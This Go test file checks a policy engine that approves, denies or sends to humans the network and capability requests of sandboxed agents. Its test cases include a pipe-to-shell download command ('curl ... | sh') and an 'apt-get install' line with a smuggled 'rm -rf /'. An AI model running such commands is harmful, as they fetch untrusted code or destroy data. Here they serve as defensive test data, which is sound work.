package supervise

import (
	"errors"
	"regexp"
	"strings"
	"testing"

	"github.com/bot-bottle/bot-bottle/internal/queue"
)

const goodPolicy = `
rule "docs-egress" {
  kind   = "egress"
  host   = "*.example.test"
  action = "approve"
}

rule "api-port" {
  kind   = "egress"
  host   = "api.corp.test:8443"
  action = "approve"
}

rule "no-pipe-to-shell" {
  kind   = "capability"
  change = "*| sh*"
  action = "deny"
  reason = "no piping downloads into a shell"
}

rule "apt-for-shell" {
  kind          = "capability"
  agent         = "shell"
  identity      = "shell-*"
  change_regexp = "^apt-get install -y [a-z0-9-]+$"
  action        = "approve"
}

rule "humans-decide-capabilities" {
  kind   = "capability"
  action = "ask"
}

rule "refuse-the-rest" {
  action = "deny"
  reason = "not on the list"
}
`

func egress(id, host string) Subject {
	return Subject{Request: queue.Request{ID: id + "-aaaaaa", Identity: id, Kind: queue.KindEgress, Host: host}, Agent: "shell"}
}

func capRun(id, agent, run string) Subject {
	return Subject{Request: queue.Request{ID: id + "-aaaaaa", Identity: id, Kind: queue.KindCapability, Run: run}, Agent: agent}
}

func TestPolicyFirstMatchWins(t *testing.T) {
	p, err := Parse([]byte(goodPolicy), "/etc/p.hcl")
	if err != nil {
		t.Fatal(err)
	}
	cases := []struct {
		name string
		s    Subject
		want string // rule name
	}{
		{"glob host, default port", egress("shell-aaaaa", "docs.example.test"), "docs-egress"},
		{"glob host, any port", egress("shell-aaaaa", "a.b.example.test:80"), "docs-egress"},
		{"suffix is not enough", egress("shell-aaaaa", "evilexample.test:443"), "refuse-the-rest"},
		{"host with port pattern", egress("shell-aaaaa", "api.corp.test:8443"), "api-port"},
		{"port pattern, other port", egress("shell-aaaaa", "api.corp.test:443"), "refuse-the-rest"},
		{"port pattern, default port", egress("shell-aaaaa", "api.corp.test"), "refuse-the-rest"},
		{"pipe to shell denied before apt approved", capRun("shell-aaaaa", "shell", "curl -s http://x | sh"), "no-pipe-to-shell"},
		{"apt approved for shell", capRun("shell-aaaaa", "shell", "apt-get install -y ripgrep"), "apt-for-shell"},
		{"regexp anchors hold", capRun("shell-aaaaa", "shell", "apt-get install -y ripgrep && rm -rf /"), "humans-decide-capabilities"},
		{"agent must match", capRun("claude-aaaaa", "claude", "apt-get install -y ripgrep"), "humans-decide-capabilities"},
		{"identity glob must match", capRun("shellx-aaaaa", "shell", "apt-get install -y ripgrep"), "humans-decide-capabilities"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			r, ok := p.Match(c.s)
			if !ok || r.Name != c.want {
				t.Fatalf("Match = %q, %v; want %q", r.Name, ok, c.want)
			}
		})
	}
	r, _ := p.Match(egress("shell-aaaaa", "docs.example.test"))
	if got := p.DecidedBy(r); got != "policy:/etc/p.hcl#docs-egress" {
		t.Errorf("DecidedBy = %q", got)
	}
	if r.Index != 1 || p.Rules[5].Index != 6 {
		t.Errorf("indexes %d, %d; want 1 and 6", r.Index, p.Rules[5].Index)
	}
}

func TestNoMatchStaysPending(t *testing.T) {
	p, err := Parse([]byte(`rule "only-docs" {
  kind   = "egress"
  host   = "docs.example.test"
  action = "approve"
}`), "p.hcl")
	if err != nil {
		t.Fatal(err)
	}
	if r, ok := p.Match(egress("shell-aaaaa", "other.example.test")); ok {
		t.Fatalf("matched %q; want no rule", r.Name)
	}
	if r, ok := p.Match(capRun("shell-aaaaa", "shell", "true")); ok {
		t.Fatalf("capability matched %q; want no rule", r.Name)
	}
}

func TestDockerfileChangeMatchesWholeFile(t *testing.T) {
	p, err := Parse([]byte(`rule "x" {
  kind   = "capability"
  change = "*RUN apt-get install -y jq*"
  action = "approve"
}`), "p.hcl")
	if err != nil {
		t.Fatal(err)
	}
	s := Subject{Request: queue.Request{Kind: queue.KindCapability, Dockerfile: "FROM x\nRUN apt-get install -y jq\nUSER agent\n"}}
	if _, ok := p.Match(s); !ok {
		t.Fatal("a multi-line Dockerfile did not match a glob spanning lines")
	}
}

func TestBadPolicies(t *testing.T) {
	cases := []struct {
		name, src string
		want      string // regexp on the one-line error
	}{
		{"syntax", "rule \"a\" {\n  action = \n}\n", `^p\.hcl:2:12: Invalid expression`},
		{"unknown attribute", "rule \"a\" {\n  action = \"approve\"\n  colour = \"red\"\n}\n", `^p\.hcl:3:3: Unsupported argument`},
		{"missing action", "rule \"a\" {\n  kind = \"egress\"\n}\n", `^p\.hcl:1:10: Missing required argument`},
		{"bad action", "rule \"a\" {\n  action = \"maybe\"\n}\n", `^p\.hcl:2:12: Invalid action; "maybe"`},
		{"bad kind", "rule \"a\" {\n  kind = \"disk\"\n  action = \"ask\"\n}\n", `^p\.hcl:2:10: Invalid kind`},
		{"deny without reason", "\nrule \"a\" {\n  action = \"deny\"\n}\n", `^p\.hcl:2:1: Missing reason; rule "a" denies`},
		{"empty reason", "rule \"a\" {\n  action = \"deny\"\n  reason = \" \"\n}\n", `^p\.hcl:3:12: Empty reason`},
		{"host on capability", "rule \"a\" {\n  kind = \"capability\"\n  host = \"x\"\n  action = \"ask\"\n}\n", `^p\.hcl:3:3: host needs kind = "egress"`},
		{"change on egress", "rule \"a\" {\n  kind = \"egress\"\n  change = \"x\"\n  action = \"ask\"\n}\n", `^p\.hcl:3:3: change needs kind = "capability"`},
		{"bad regexp", "rule \"a\" {\n  kind = \"capability\"\n  change_regexp = \"(\"\n  action = \"ask\"\n}\n", `^p\.hcl:3:19: Invalid change_regexp`},
		{"both change forms", "rule \"a\" {\n  kind = \"capability\"\n  change = \"x\"\n  change_regexp = \"x\"\n  action = \"ask\"\n}\n", `^p\.hcl:4:3: Conflicting change patterns`},
		{"not a string", "rule \"a\" {\n  action = 3\n}\n", `^p\.hcl:2:12: Invalid value; action must be a string`},
		{"reference", "rule \"a\" {\n  action = var.x\n}\n", `^p\.hcl:2:12: Variables not allowed`},
		{"duplicate name", "rule \"a\" {\n  action = \"ask\"\n}\nrule \"a\" {\n  action = \"ask\"\n}\n", `^p\.hcl:4:6: Duplicate rule name; rule "a" is already defined at line 1`},
		{"bad name", "rule \"a b\" {\n  action = \"ask\"\n}\n", `^p\.hcl:1:6: Invalid rule name`},
		{"stray block", "policy {\n}\n", `^p\.hcl:1:1: Unsupported block type`},
		{"top-level attribute", "default = \"approve\"\n", `^p\.hcl:1:1: Unsupported argument`},
		{"two problems", "rule \"a\" {\n  action = \"x\"\n}\nrule \"b\" {\n  action = \"y\"\n}\n", `^p\.hcl:2:12: Invalid action.*\(and 1 more error\)$`},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			p, err := Parse([]byte(c.src), "p.hcl")
			if err == nil {
				t.Fatalf("no error; rules %+v", p.Rules)
			}
			var pe *PolicyError
			if !errors.As(err, &pe) {
				t.Errorf("error is %T, want *PolicyError", err)
			}
			msg := err.Error()
			if strings.Contains(msg, "\n") {
				t.Errorf("error spans lines: %q", msg)
			}
			if !regexp.MustCompile(c.want).MatchString(msg) {
				t.Errorf("error %q does not match %q", msg, c.want)
			}
		})
	}
}

func TestEmptyPolicyDecidesNothing(t *testing.T) {
	p, err := Parse([]byte("# nothing yet\n"), "p.hcl")
	if err != nil {
		t.Fatal(err)
	}
	if _, ok := p.Match(egress("shell-aaaaa", "docs.example.test")); ok {
		t.Fatal("an empty policy matched")
	}
}

func TestGlob(t *testing.T) {
	cases := []struct {
		pat, s string
		want   bool
	}{
		{"shell-*", "shell-abcde", true},
		{"shell-*", "xshell-abcde", false},
		{"shell-?????", "shell-abcde", true},
		{"shell-?????", "shell-abcdef", false},
		{"a.b", "axb", false}, // dots are literal
		{"apt-get install *", "apt-get install -y a b/c", true},
		{"(x)[y]+", "(x)[y]+", true}, // regexp metacharacters are literal
	}
	for _, c := range cases {
		g, err := CompileGlob(c.pat)
		if err != nil {
			t.Fatal(err)
		}
		if got := g.Match(c.s); got != c.want {
			t.Errorf("%q ~ %q = %v, want %v", c.pat, c.s, got, c.want)
		}
	}
	if _, err := CompileGlob(""); err == nil {
		t.Error("empty glob compiled")
	}
}
